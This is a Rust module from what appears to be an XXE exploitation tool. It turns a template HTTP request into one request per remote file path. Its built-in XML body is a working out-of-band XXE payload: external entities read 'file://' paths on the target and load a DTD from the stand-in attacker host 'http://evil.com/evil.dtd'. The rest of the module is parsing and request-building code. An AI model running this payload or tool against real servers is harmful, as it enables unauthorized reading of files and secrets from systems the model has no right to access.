//! Request Templates
//!
//! This module houses the structures for creating a new XXE request for every remote path
//! from a template request.
use anyhow::{anyhow, Context, Error, Result};

use hyper::header::HeaderName;
use hyper::http::header::HeaderValue;
use hyper::{Body, HeaderMap, Method, Request, Uri, Version};

use itertools::Itertools;
use regex::{NoExpand, Regex};

use std::fs::File;
use std::io::{prelude::*, BufReader};

/// Default marker for the spot where the remote path goes.
pub const DEFAULT_MARKER: &str = "§§";

/// Default DTD reference; it has to be served somewhere the target can reach.
pub const DEFAULT_DTD_URL: &str = "http://evil.com/evil.dtd";

/// Body of the built-in template. `{dtd}` is replaced by the DTD url, the marker by the
/// remote path.
const DEFAULT_BODY: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE updateProfile [
   <!ENTITY % file SYSTEM "file://§§">
   <!ENTITY % start "<![CDATA[">
   <!ENTITY % end "]]>">
   <!ENTITY % dtd SYSTEM "{dtd}">
%dtd;
]>
<user>
    <firstname>John</firstname>
    <surname>&xxe;</surname>
    <email>jdoe@example.com</email>
    <role>admin</role>
</user>"#;

/// Built-in request body referencing dtd_url.
pub fn default_body(dtd_url: &str) -> String {
    DEFAULT_BODY.replace("{dtd}", dtd_url)
}

/// Represents the components of a request for recreating the [Request] object
///
/// This struct is useful since the [Request] object is not Clone.
pub struct RequestComponents {
    head: HeaderMap<HeaderValue>,
    authority: String,
    uri: Uri,
    version: Version,
    body: String,
    method: Method,
}

impl RequestComponents {
    /// Create a new empty [RequestComponents].
    fn new() -> Self {
        RequestComponents {
            head: HeaderMap::new(),
            authority: String::new(),
            uri: Uri::from_static("/"),
            version: Version::HTTP_11,
            body: "".to_string(),
            method: Method::GET,
        }
    }

    /// Insert a header into head.
    fn insert_header(&mut self, key: &str, value: &str) -> Result<()> {
        self.head.insert(
            HeaderName::try_from(key)?,
            HeaderValue::try_from(value)?,
        );
        Ok(())
    }

    fn absolute_uri(authority: &str, path_and_query: &str) -> Result<Uri> {
        Ok(Uri::builder()
            .scheme("http")
            .authority(authority)
            .path_and_query(path_and_query)
            .build()?)
    }
}

/// Stores the template
///
/// This struct stores the known RequestComponents, the pattern for identifying what components
/// have to be filled with the remote path before building a new request, and the
/// marked [Part]s themselves.
pub struct RequestTemplate {
    pub req: RequestComponents,
    pub marked: Vec<Part>,
    pub pattern: Regex,
}

/// Either the request target, an element in the header, or the body is marked.
#[derive(Debug, PartialEq)]
pub enum Part {
    Uri(String),
    Header(String),
    Body(String),
}

/// Settings for building a template without a request file.
#[derive(Clone, Debug)]
pub struct InlineTemplate {
    pub host: String,
    pub url: String,
    pub method: Method,
    pub headers: Vec<(String, String)>,
    pub body: String,
}

impl Default for InlineTemplate {
    fn default() -> Self {
        Self {
            host: "example.com:80".to_string(),
            url: "/api/user".to_string(),
            method: Method::PUT,
            headers: vec![
                ("Content-Type".to_string(), "application/xml".to_string()),
                ("Accept".to_string(), "application/json".to_string()),
            ],
            body: default_body(DEFAULT_DTD_URL),
        }
    }
}

impl RequestTemplate {
    /// Parse a raw HTTP request: request line, headers, an empty line, then the body.
    pub fn parse(reader: impl BufRead, pattern: Regex) -> Result<Self> {
        let mut lines = reader.lines();
        let request_line = lines.next().ok_or(anyhow!("File is empty"))??;
        let (method, uri, httpver) = request_line
            .split(' ')
            .next_tuple()
            .ok_or(anyhow!("Invalid Request Line"))?;

        let mut marked = Vec::new();

        let mut req = RequestComponents::new();
        req.version = match httpver {
            "HTTP/0.9" => Version::HTTP_09,
            "HTTP/1.0" => Version::HTTP_10,
            _ => Version::HTTP_11,
        };
        req.method = Method::try_from(method)?;

        for header in lines.by_ref() {
            let header = header?.trim().to_string();
            if header.is_empty() {
                break;
            }
            if pattern.is_match(&header) {
                marked.push(Part::Header(header));
                continue;
            }

            let (key, value) = header
                .split_once(':')
                .map(|(k, v)| (k.trim(), v.trim()))
                .ok_or(anyhow!("Invalid Header"))?;

            if key.eq_ignore_ascii_case("Host") {
                req.authority = value.to_owned();
            }

            if key.eq_ignore_ascii_case("Content-Length") {
                continue;
            }
            req.insert_header(key, value)?;
        }

        if req.authority.is_empty() {
            return Err(anyhow!("Request has no Host header"));
        }

        if pattern.is_match(uri) {
            marked.push(Part::Uri(uri.to_owned()));
        } else {
            req.uri = RequestComponents::absolute_uri(&req.authority, uri)?;
        }

        req.body = lines.collect::<std::io::Result<Vec<_>>>()?.join("\n");
        if pattern.is_match(&req.body) {
            marked.push(Part::Body(req.body.clone()));
        }
        if marked.is_empty() {
            return Err(anyhow!("Marker {} does not appear in the request", pattern));
        }

        Ok(Self {
            req,
            marked,
            pattern,
        })
    }

    /// Build a template from individual settings.
    pub fn inline(settings: &InlineTemplate, pattern: Regex) -> Result<Self> {
        let mut req = RequestComponents::new();
        req.method = settings.method.clone();
        req.authority = settings.host.clone();
        req.insert_header("Host", &settings.host)?;

        let mut marked = Vec::new();
        for (key, value) in &settings.headers {
            if pattern.is_match(key) || pattern.is_match(value) {
                marked.push(Part::Header(format!("{}: {}", key, value)));
            } else {
                req.insert_header(key, value)?;
            }
        }
        if pattern.is_match(&settings.url) {
            marked.push(Part::Uri(settings.url.clone()));
        } else {
            req.uri = RequestComponents::absolute_uri(&settings.host, &settings.url)?;
        }
        req.body = settings.body.clone();
        if pattern.is_match(&req.body) {
            marked.push(Part::Body(req.body.clone()));
        }
        if marked.is_empty() {
            return Err(anyhow!("Marker {} does not appear in the request", pattern));
        }

        Ok(Self {
            req,
            marked,
            pattern,
        })
    }

    /// Replace the marked Parts with payload and build a new Request from them.
    pub fn replace_then_request(&self, payload: &str) -> Result<Request<Body>> {
        let mut uri = self.req.uri.clone();
        let mut body = None;
        let mut req = Request::builder()
            .version(self.req.version)
            .method(self.req.method.clone());
        let headers = req.headers_mut().ok_or(anyhow!("Builder has error"))?;
        headers.clone_from(&self.req.head);
        for part in &self.marked {
            match part {
                Part::Uri(target) => {
                    let target = self.pattern.replace_all(target, NoExpand(payload));
                    uri = RequestComponents::absolute_uri(&self.req.authority, &target)?;
                }
                Part::Header(header) => {
                    let (key, value) = header
                        .split_once(':')
                        .map(|(k, v)| (k.trim(), v.trim()))
                        .ok_or(anyhow!("Invalid Header"))?;
                    let key = self.pattern.replace_all(key, NoExpand(payload));
                    let value = self.pattern.replace_all(value, NoExpand(payload));
                    req = req.header(key.to_string(), value.to_string());
                }
                Part::Body(bd) => {
                    body = Some(self.pattern.replace_all(bd, NoExpand(payload)).into_owned());
                }
            }
        }
        let body = body.unwrap_or_else(|| self.req.body.clone());
        Ok(req.uri(uri).body(Body::from(body))?)
    }
}

/// Trait for creating a RequestTemplate from a file.
impl TryFrom<ReqTemplateFile> for RequestTemplate {
    type Error = Error;
    fn try_from(req_templ: ReqTemplateFile) -> Result<Self, Self::Error> {
        RequestTemplate::parse(BufReader::new(req_templ.file), req_templ.pattern)
    }
}

/// Represents a request template file
pub struct ReqTemplateFile {
    file: File,
    pattern: Regex,
}

impl ReqTemplateFile {
    pub fn new(file: File, pattern: &str) -> Result<Self> {
        Ok(Self {
            file,
            pattern: Regex::new(pattern).with_context(|| format!("Invalid marker: {}", pattern))?,
        })
    }
}
